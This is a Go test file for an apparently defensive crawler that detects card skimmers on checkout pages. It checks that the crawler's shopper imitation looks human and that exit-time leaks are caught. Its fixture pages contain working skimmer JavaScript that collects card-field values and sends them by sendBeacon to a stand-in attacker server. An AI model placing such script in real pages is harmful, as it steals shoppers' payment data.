package crawler

import (
	"encoding/json"
	"net/http"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	skimguard "github.com/skimguard/skimguard"
	"github.com/skimguard/skimguard/carddata"
)

// visitLogJS records what a page can tell of its visitor's hands, in times
// after the load event, and posts it to /log whenever it changes.
const visitLogJS = `
var L = {moves: 0, points: {}, firstMove: -1, firstScroll: -1, firstWheel: -1, firstTouch: -1, touchMoves: 0,
  downs: [], taps: [], focus: [], keys: [], shifts: 0, shiftedCaps: 0, caps: 0, untrusted: 0, clicks: 0}, t0 = -1;
function now() { return t0 < 0 ? -1 : Math.round(performance.now() - t0); }
addEventListener('load', function () { t0 = performance.now(); });
var dirty = false;
function mark(e) { if (!e.isTrusted) L.untrusted++; dirty = true; }
setInterval(function () { if (dirty) { dirty = false; fetch('/log', {method: 'POST', body: JSON.stringify(L)}); } }, 150);
addEventListener('mousemove', function (e) { mark(e); L.moves++; L.points[e.clientX + ',' + e.clientY] = 1; if (L.firstMove < 0) L.firstMove = now(); }, true);
addEventListener('scroll', function (e) { mark(e); if (L.firstScroll < 0) L.firstScroll = now(); }, true);
addEventListener('wheel', function (e) { mark(e); if (L.firstWheel < 0) L.firstWheel = now(); }, {passive: true, capture: true});
addEventListener('touchstart', function (e) { mark(e); if (L.firstTouch < 0) L.firstTouch = now(); L.taps.push(e.target.id || e.target.tagName); }, {passive: true, capture: true});
addEventListener('touchmove', function (e) { mark(e); L.touchMoves++; }, {passive: true, capture: true});
addEventListener('mousedown', function (e) { mark(e); L.downs.push(e.target.id || e.target.tagName); }, true);
addEventListener('focusin', function (e) { L.focus.push([e.target.id, L.downs[L.downs.length - 1] || '', L.taps[L.taps.length - 1] || '']); dirty = true; }, true);
addEventListener('keydown', function (e) { mark(e); if (e.key === 'Shift') { L.shifts++; return; }
  if (e.key.length === 1 && e.key !== e.key.toLowerCase()) { L.caps++; if (e.shiftKey) L.shiftedCaps++; }
  L.keys.push([e.target.id, now()]); }, true);
addEventListener('click', function (e) { if (e.target.id === 'pay') fetch('/clicked'); }, true);
`

type visitLog struct {
	Moves       int            `json:"moves"`
	Points      map[string]int `json:"points"`
	FirstMove   int            `json:"firstMove"`
	FirstScroll int            `json:"firstScroll"`
	FirstWheel  int            `json:"firstWheel"`
	FirstTouch  int            `json:"firstTouch"`
	TouchMoves  int            `json:"touchMoves"`
	Downs       []string       `json:"downs"`
	Taps        []string       `json:"taps"`
	Focus       [][3]string    `json:"focus"`
	Keys        [][2]any       `json:"keys"`
	Shifts      int            `json:"shifts"`
	ShiftedCaps int            `json:"shiftedCaps"`
	Caps        int            `json:"caps"`
	Untrusted   int            `json:"untrusted"`
}

// TestShopperLikeVisit: the mouse comes in soon after load along a path of
// many small steps and the page is scrolled, long before typing; each field
// is clicked into (tapped on a phone), not focused by a script, those
// further down once the page is scrolled to them; keys come
// one at a time with varied gaps, Shift held for capitals; all of it is
// trusted, ends inside the window, and clicks nothing.
func TestShopperLikeVisit(t *testing.T) {
	c := needBrowser(t)
	for _, profile := range []string{skimguard.ProfileDesktop, skimguard.ProfileMobile} {
		t.Run(profile, func(t *testing.T) {
			t.Parallel()
			var h hits
			mux := http.NewServeMux()
			mux.HandleFunc("/checkout", func(w http.ResponseWriter, r *http.Request) {
				html(w, `<!doctype html><html><head><meta name="viewport" content="width=device-width"></head><body style="margin:0">
<div style="height:500px">Your basket</div>
<form action="/order" method="post">
 <input id="name" name="cc-name" autocomplete="cc-name">
 <input id="num" name="cardnumber" autocomplete="cc-number">
 <div style="height:900px">Billing address</div>
 <input id="exp" name="exp" autocomplete="cc-exp">
 <input id="cvc" name="cvc" autocomplete="cc-csc">
 <button id="pay">Pay</button>
</form>
<div style="height:2000px">Terms</div>
<script>`+visitLogJS+`</script></body></html>`)
			})
			mux.HandleFunc("/", h.bodies)
			srv := serveOn(t, "127.0.0.1", mux)

			const wait = 5 * time.Second
			obs := mustScan(t, c, skimguard.Page{URL: srv.URL + "/checkout", Interact: true, Wait: wait, Profile: profile})
			if !obs.Typed {
				t.Fatal("nothing typed")
			}
			time.Sleep(300 * time.Millisecond)
			logs := h.values("/log")
			if len(logs) == 0 {
				t.Fatal("the page logged nothing")
			}
			var l visitLog
			if err := json.Unmarshal([]byte(logs[len(logs)-1]), &l); err != nil {
				t.Fatal(err)
			}
			t.Logf("moves %d (%d points) first move %d ms, scroll %d, wheel %d, touch %d (%d moves); downs %v taps %v; focus %v; shifts %d caps %d/%d",
				l.Moves, len(l.Points), l.FirstMove, l.FirstScroll, l.FirstWheel, l.FirstTouch, l.TouchMoves, l.Downs, l.Taps, l.Focus, l.Shifts, l.ShiftedCaps, l.Caps)

			if l.Untrusted > 0 {
				t.Errorf("%d untrusted events", l.Untrusted)
			}
			var times []int
			for _, k := range l.Keys {
				times = append(times, int(k[1].(float64)))
			}
			if len(times) < 16 {
				t.Fatalf("%d keys typed", len(times))
			}
			firstKey, lastKey := times[0], times[len(times)-1]
			// Arrival: early, well before typing, with time left for a
			// loader that then waits.
			// (Half the window: a busy machine slows the path, not the plan.)
			early := int(wait.Milliseconds() / 2)
			if l.FirstScroll < 0 || l.FirstScroll > early || l.FirstScroll >= firstKey {
				t.Errorf("first scroll at %d ms after load, first key at %d: want a scroll within %d ms, before typing", l.FirstScroll, firstKey, early)
			}
			if profile == skimguard.ProfileDesktop {
				if l.FirstMove < 0 || l.FirstMove > early || l.FirstWheel < 0 || l.FirstWheel > early {
					t.Errorf("first mouse move at %d ms, first wheel at %d: want both within %d ms of load", l.FirstMove, l.FirstWheel, early)
				}
				if l.Moves < 30 || len(l.Points) < 25 {
					t.Errorf("%d mouse moves through %d points: want paths of many small steps", l.Moves, len(l.Points))
				}
			} else {
				if l.FirstTouch < 0 || l.FirstTouch > early || l.TouchMoves < 4 {
					t.Errorf("first touch at %d ms, %d touch moves: want a swipe within %d ms of load", l.FirstTouch, l.TouchMoves, early)
				}
			}
			// Focus by a click (a tap) on the field itself.
			for _, id := range []string{"name", "num", "exp", "cvc"} {
				i := slices.IndexFunc(l.Focus, func(f [3]string) bool { return f[0] == id })
				if i < 0 {
					t.Errorf("%s never had the focus", id)
					continue
				}
				by := l.Focus[i][1]
				if profile == skimguard.ProfileMobile {
					by = l.Focus[i][2]
				}
				if by != id {
					t.Errorf("%s got the focus after a press on %q: want a click into it", id, by)
				}
			}
			// Keys: varied gaps, Shift for capitals.
			var gaps []int
			for i := 1; i < len(times); i++ {
				gaps = append(gaps, times[i]-times[i-1])
			}
			sort.Ints(gaps)
			if gaps[len(gaps)/2] < 5 || gaps[len(gaps)*9/10] == gaps[len(gaps)/10] {
				t.Errorf("key gaps %v: want small random delays", gaps)
			}
			if l.Caps == 0 || l.ShiftedCaps != l.Caps || l.Shifts < l.Caps {
				t.Errorf("%d capitals, %d with Shift held, %d Shift presses", l.Caps, l.ShiftedCaps, l.Shifts)
			}
			// Late in the window, so that listeners attached late see the
			// keys: typing starts no sooner than its share of the time
			// before the tail. (It is paced to end a tail before the
			// window does; a busy machine only makes it later, which is
			// logged, not failed.)
			tail := min(max(wait/4, minTailAfterType), maxTailAfterType)
			if earliest := int((wait - tail - maxTyping).Milliseconds()); firstKey < earliest {
				t.Errorf("first key at %d ms after load: want typing to start late, not before %d", firstKey, earliest)
			}
			t.Logf("keys from %d to %d ms after load, window %v", firstKey, lastKey, wait)
			for _, p := range []string{"/clicked", "/order"} {
				if n := h.count(p); n != 0 {
					t.Errorf("%s hit %d times", p, n)
				}
			}
			if strings.Contains(strings.Join(l.Downs, ","), "pay") {
				t.Errorf("the pay button was pressed: %v", l.Downs)
			}
		})
	}
}

// The pace fits typing and mouse paths into the time given, within a
// person's bounds, and says when even the fastest pace cannot.
func TestPaceFitsTheTime(t *testing.T) {
	cost := func(step, key time.Duration, keys, moves int) time.Duration {
		return time.Duration(moves)*(stepsPerMove*step+holdPerMove) + time.Duration(keys)*key
	}
	for _, tc := range []struct {
		avail       time.Duration
		keys, moves int
		hurry       bool
	}{
		{maxTyping, 38, 6, false},
		{maxTyping, 16, 2, false},
		{1500 * time.Millisecond, 38, 6, false},
		{200 * time.Millisecond, 38, 6, true},
		{0, 38, 6, true},
		{-time.Second, 0, 1, true},
	} {
		step, key, hurry := pace(tc.avail, tc.keys, tc.moves)
		if step < minStepGap || step > maxStepGap || key < minKeyGap || key > maxKeyGap {
			t.Errorf("pace(%v, %d, %d) = %v, %v: out of a person's bounds", tc.avail, tc.keys, tc.moves, step, key)
		}
		if hurry != tc.hurry {
			t.Errorf("pace(%v, %d, %d): hurry = %v, want %v", tc.avail, tc.keys, tc.moves, hurry, tc.hurry)
		}
		if c := cost(step, key, tc.keys, tc.moves); !hurry && c > tc.avail {
			t.Errorf("pace(%v, %d, %d) = %v, %v: takes %v", tc.avail, tc.keys, tc.moves, step, key, c)
		}
	}
	// A long window does not make the shopper slow.
	if step, key, _ := pace(time.Minute, 38, 6); step != maxStepGap || key != maxKeyGap {
		t.Errorf("pace(1m) = %v, %v", step, key)
	}
}

// TestDepartureBeaconsAreSearched: at the end of the window the shopper
// leaves; the page sees visibilitychange to hidden and pagehide, and the
// card it sends with sendBeacon then reaches the attacker and is found in
// the observation, masked.
func TestDepartureBeaconsAreSearched(t *testing.T) {
	c := needBrowser(t)
	var h hits
	evil := http.NewServeMux()
	evil.HandleFunc("/", h.bodies)
	evilSrv := serveOn(t, "127.0.0.2", evil)
	mux := http.NewServeMux()
	mux.HandleFunc("/checkout", func(w http.ResponseWriter, r *http.Request) {
		html(w, `<!doctype html><html><body><form><input name="cardnumber" autocomplete="cc-number"><input name="cvc" autocomplete="cc-csc"></form>
<script>
function grab() { var d = {}; document.querySelectorAll('input').forEach(function (i) { d[i.name] = i.value; }); return JSON.stringify(d); }
document.addEventListener('visibilitychange', function () { if (document.visibilityState === 'hidden') navigator.sendBeacon('`+evilSrv.URL+`/hidden', grab()); });
addEventListener('pagehide', function () { navigator.sendBeacon('`+evilSrv.URL+`/pagehide', grab()); });
</script></body></html>`)
	})
	srv := serveOn(t, "127.0.0.1", mux)
	obs := mustScan(t, c, skimguard.Page{URL: srv.URL + "/checkout", Interact: true, Wait: 2 * time.Second})
	time.Sleep(300 * time.Millisecond)
	number := carddata.Test().Number
	for _, p := range []string{"/hidden", "/pagehide"} {
		if v := h.values(p); len(v) == 0 || !strings.Contains(v[0], number) {
			t.Errorf("%s: the attacker received %q: want the card sent on the way out", p, v)
		}
	}
	var pings int
	for _, l := range obs.Leaks {
		if l.Origin == evilSrv.URL && l.Type == "Ping" {
			pings++
		}
	}
	if pings < 2 {
		t.Errorf("%d leaks by beacon to %s, want both exit beacons: %+v", pings, evilSrv.URL, obs.Leaks)
	}
	if data, _ := json.Marshal(obs); strings.Contains(string(data), number) {
		t.Error("the observation holds the unmasked card number")
	}
	if obs.FinalURL != srv.URL+"/checkout" {
		t.Errorf("final URL %q: leaving must not change the page observed", obs.FinalURL)
	}
}

// A page leaves only when something in it runs on exit, in any frame and
// however it listens (an on… handler included); leaving a page where
// nothing does would show nothing and cost every scan the wait.
func TestTheShopperLeavesOnlyPagesThatListenOnExit(t *testing.T) {
	c := needBrowser(t)
	var h hits
	evil := http.NewServeMux()
	evil.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) { h.add(r.URL.Path, "") })
	evilSrv := serveOn(t, "127.0.0.2", evil)
	frame := http.NewServeMux()
	frame.HandleFunc("/frame", func(w http.ResponseWriter, r *http.Request) {
		html(w, `<!doctype html><script>onpagehide = function () { navigator.sendBeacon('`+evilSrv.URL+`/framed'); };</script>`)
	})
	frameSrv := serveOn(t, "127.0.0.3", frame)
	mux := http.NewServeMux()
	mux.HandleFunc("/quiet", func(w http.ResponseWriter, r *http.Request) {
		html(w, `<!doctype html><form><input name="cardnumber" autocomplete="cc-number"></form><script>document.addEventListener('click', function () {});</script>`)
	})
	mux.HandleFunc("/handler", func(w http.ResponseWriter, r *http.Request) {
		html(w, `<!doctype html><form><input name="cardnumber" autocomplete="cc-number"></form>
<script>document.onvisibilitychange = function () { navigator.sendBeacon('`+evilSrv.URL+`/handler'); };</script>`)
	})
	mux.HandleFunc("/framed", func(w http.ResponseWriter, r *http.Request) {
		html(w, `<!doctype html><form><input name="cardnumber" autocomplete="cc-number"></form><iframe src="`+frameSrv.URL+`/frame"></iframe>`)
	})
	srv := serveOn(t, "127.0.0.1", mux)
	for _, tc := range []struct {
		path  string
		leave bool
	}{{"/quiet", false}, {"/handler", true}, {"/framed", true}} {
		obs := mustScan(t, c, skimguard.Page{URL: srv.URL + tc.path, Interact: true, Wait: 2 * time.Second})
		if left := obs.Phases.Departure > 0; left != tc.leave {
			t.Errorf("%s: left the page %v (departure %s), want %v", tc.path, left, obs.Phases.Departure, tc.leave)
		}
		if tc.leave && !slices.ContainsFunc(obs.Connections, func(cn skimguard.Connection) bool { return cn.Origin == evilSrv.URL }) {
			t.Errorf("%s: the exit beacon is not among the connections: %+v", tc.path, obs.Connections)
		}
	}
	if len(h.values("/handler")) == 0 || len(h.values("/framed")) == 0 {
		t.Errorf("the exit beacons did not reach the test server (handler %d, framed %d): the pages did not run as written", len(h.values("/handler")), len(h.values("/framed")))
	}
}
